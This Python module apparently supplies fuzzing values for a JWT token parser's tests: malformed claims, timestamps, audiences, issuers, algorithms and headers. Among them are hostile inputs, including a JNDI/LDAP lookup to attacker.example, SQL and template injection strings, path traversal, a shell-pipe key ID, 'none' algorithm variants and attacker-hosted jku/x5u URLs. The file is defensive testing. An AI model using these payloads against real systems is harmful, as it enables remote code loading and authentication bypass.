"""Values for mutated members that have caused errors in token parsers before."""

from __future__ import annotations

from fuzz.keys import jwk
from fuzz.world import FIRST, LEEWAY, NOW, OTHER_TENANT, SECOND, TENANT

type Json = object

ODD: tuple[Json, ...] = (
    None,
    True,
    False,
    0,
    1,
    -1,
    0.5,
    -0.0,
    1e300,
    10**30,
    -(2**63),
    "",
    " ",
    "0",
    "null",
    "true",
    "a",
    "user\n1",
    "user\u0000",
    "\ud800",
    "\u202eresu",
    "\u0456ssuer",
    "\U0001f511",
    "../../dev/null",
    "x' OR '1'='1",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "k" * 257,
    "k" * 3000,
    [],
    [None],
    [[]],
    ["a", 1],
    {},
    {"a": {"b": []}},
    ["a"] * 65,
)

_EDGES = (-1, 0, 1)
TIMES: tuple[Json, ...] = (
    *(NOW + far + edge for far in (0, LEEWAY, -LEEWAY, 600, -600, 3600, -3600, 3590) for edge in _EDGES),
    float(NOW),
    NOW + 0.5,
    NOW + 600.2,
    NOW + 60.000001,
    NOW - 59.999999,
    NOW + 3599.5,
    NOW - 0.1,
    1e10,
    2.5e9,
    1e400,
    253402300799.5,
    253402300800.0,
    -0.5,
    5e-324,
    str(NOW),
    253402300799,
    253402300800,
    2**31,
    2**63,
    -NOW,
    NOW * 1000,
)

NAMES_OF_TIMES = ("iat", "exp", "nbf")
NAMES_OF_CLAIMS = (
    "iss", "sub", "aud", "iat", "exp", "nbf", "jti", "client_id", "scope", "scp", "tenant_id", "organization_id",
    "org_id", "nonce", "at_hash", "c_hash", "s_hash", "events", "token_use", "typ", "azp", "acr", "amr", "auth_time",
    "cnf", "sid", "roles", "groups", "cognito:groups", "realm_access",
    "organization", "https://tenantgate.example/tenant", "email",
)  # fmt: skip
AUDIENCES: tuple[Json, ...] = (
    FIRST.audience,
    SECOND.audience,
    [FIRST.audience],
    [SECOND.audience, "other"],
    ["other", FIRST.audience],
    FIRST.audience.upper(),
    f"{FIRST.audience} ",
    FIRST.audience[:-1],
    f"{FIRST.audience} other",
    [FIRST.audience] * 64,
    [FIRST.audience] * 65,
    [*(f"api-{number}" for number in range(70)), FIRST.audience],
    [FIRST.audience, SECOND.audience],
    [FIRST.audience, 1],
    [[FIRST.audience]],
    {FIRST.audience: True},
    "*",
    ["*"],
)
ISSUERS: tuple[Json, ...] = (
    FIRST.url,
    SECOND.url,
    [FIRST.url],
    f"{FIRST.url}/",
    FIRST.url[:-1],
    FIRST.url.upper(),
    FIRST.url.replace("https", "http"),
    f"{FIRST.url}\u0000",
    f" {FIRST.url}",
    FIRST.url.replace(".test", ".test:443"),
    FIRST.url.replace("issuer", "\u0456ssuer"),
    "https://attacker.example",
)
TENANTS: tuple[Json, ...] = (
    TENANT,
    OTHER_TENANT,
    TENANT.upper(),
    f"{TENANT}\n",
    f"{TENANT} ",
    TENANT[:-1],
    f"{TENANT}/{OTHER_TENANT}",
    [TENANT],
    [OTHER_TENANT],
    [TENANT, OTHER_TENANT],
    {TENANT: {}},
    {OTHER_TENANT: {"id": TENANT}},
    {TENANT: {}, OTHER_TENANT: {}},
    {TENANT: True},
    42,
    2**63,
    {"id": TENANT},
    "org-*",
    "*",
)
KINDS: tuple[Json, ...] = ("access", "id", "ID", "Bearer", "Refresh", "Logout", "JWT", "at+jwt")
ROLES: tuple[Json, ...] = (
    "admin",
    ["a", "admin"],
    [["admin"]],
    [1, None, "a"],
    {"admin": {}},
    {"admin": {TENANT: "acme.example"}},
    {"a": {OTHER_TENANT: "globex.example"}, "admin": {OTHER_TENANT: "globex.example"}},
    {"admin": True},
    {"roles": ["a", "admin"]},
    {"roles": {"admin": {}}},
)
SCOPES: tuple[Json, ...] = ("", "a b", "a  b", " a", "a\tb", ["a", "b"], ["a b"], [""], ["a", 1], "admin", "\u00e9")

ALGORITHMS: tuple[Json, ...] = (
    *FIRST.keys,
    "none", "None", "NONE", "nOnE", "none ", "HS256", "HS384", "HS512", "rs256", "RS256 ", "RS256\u0000", "ES256K",
    "EDDSA", "Ed25519", "Ed448", "RSA1_5", "RSA-OAEP", "dir", "A128KW", "PBES2-HS256+A128KW", "ECDH-ES", "ES255",
)  # fmt: skip
KIDS: tuple[Json, ...] = (
    *(str(key["kid"]) for issuer in (FIRST, SECOND) for key in issuer.published),
    "unknown", "RSA-1", "rsa-1 ", "rsa-1/", "../rsa-1", "file:///dev/null", "https://attacker.example/jwks.json",
    "rsa-1' OR '1'='1", "rsa-1|id", "rsa-1\u0000", "rsa-1\n",
)  # fmt: skip
TYPES: tuple[Json, ...] = (
    "at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+JWT", "JWT", "jwt", "id_token", "logout+jwt", "dpop+jwt",
    "application/", "application/application/at+jwt", "JOSE", "JWE", "secevent+jwt",
)  # fmt: skip
_NO_HINTS: tuple[Json, ...] = (None, 1, [], {}, "")
HINTS: tuple[tuple[str, Json], ...] = (
    ("jku", "https://attacker.example/jwks.json"),
    ("jku", f"{FIRST.url}/jwks"),
    ("x5u", "https://attacker.example/cert.pem"),
    ("x5c", ["MIIB"]),
    ("x5c", "MIIB"),
    ("x5t", "dGh1bWJwcmludA"),
    ("x5t#S256", "dGh1bWJwcmludA"),
    *((name, value) for name in ("jku", "x5u", "x5c", "x5t", "x5t#S256") for value in _NO_HINTS),
)
UNKNOWN_HEADERS = ("url", "nonce", "ver", "org.example", "iat", "exp", "iss", "aud", "ppt", "svt")
REFUSED_HEADERS: tuple[tuple[str, Json], ...] = (
    ("crit", ["exp"]),
    ("crit", []),
    ("crit", None),
    ("crit", ["b64"]),
    ("crit", ["alg"]),
    ("b64", False),
    ("b64", True),
    ("jwk", jwk("rsa-foreign")),
    ("jwk", jwk("ed25519-foreign", kid="ed25519-1")),
    ("jwk", {}),
    ("zip", "DEF"),
    ("enc", "A128GCM"),
    ("epk", {}),
    ("p2c", 10_000_000),
    ("p2s", "AAAA"),
    ("cty", "JWT"),
    ("cty", "application/at+jwt"),
)
